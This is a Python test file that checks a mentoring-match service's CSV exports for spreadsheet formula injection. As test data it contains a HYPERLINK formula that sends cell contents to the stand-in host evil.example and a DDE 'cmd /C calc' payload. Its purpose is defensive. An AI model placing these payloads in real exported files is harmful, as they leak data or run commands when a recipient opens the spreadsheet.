"""Every CSV we write is safe to open in a spreadsheet (no formula runs)."""

from __future__ import annotations

import csv
import io

import pytest

from service.config import load_config
from service.csv_safe import FORMULA_START, csv_text, safe_cell
from service.matching import MatchProblem, Mentee, Mentor, match
from service.matching.report import (
    build_report,
    render_csv,
    render_introductions_csv,
    render_review_csv,
)

HYPERLINK = '=HYPERLINK("https://evil.example/?"&A1,"click")'


@pytest.mark.parametrize("start", FORMULA_START)
def test_a_cell_that_a_spreadsheet_would_run_is_escaped(start: str) -> None:
    assert safe_cell(f"{start}1+1") == f"'{start}1+1"
    assert csv_text([["a", f"{start}cmd|' /C calc'!A0"]]).splitlines()[0].startswith("a,")


def test_ordinary_cells_are_left_alone() -> None:
    assert [safe_cell(v) for v in ("Home Office", 3, None, "a=b", "")] == [
        "Home Office",
        "3",
        "",
        "a=b",
        "",
    ]


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def test_the_match_csvs_escape_a_hostile_department_and_name() -> None:
    config = load_config()
    mentees = [Mentee(1, 1, HYPERLINK), Mentee(2, 6, "+SUM(A1:A9)")]  # 2: nobody above
    mentors = [Mentor(9, 3, "@Cabinet Office")]
    problem = MatchProblem.build(mentees, mentors)
    result = match(problem)
    report = build_report(problem, result, grade_names=[g.code for g in config.grades])
    labels = {("mentee", 2): "-Kim", ("mentor", 9): "=Alex"}
    for text in (
        render_csv(report, labels=labels),
        render_introductions_csv(problem, result, labels=labels),
        render_review_csv(report, {1: ("=a@x.gov.uk", "@Ed"), 9: ("m@x.gov.uk", "=Alex")}),
    ):
        cells = _cells(text)
        assert cells and not [c for c in cells if c.startswith(FORMULA_START)]
    assert f"'{HYPERLINK}" in _cells(render_csv(report, labels=labels))
    review = _cells(render_review_csv(report, {1: ("a@x.gov.uk", "@Ed"), 9: ("m@x", "=Alex")}))
    assert "'@Ed" in review and "'=Alex" in review
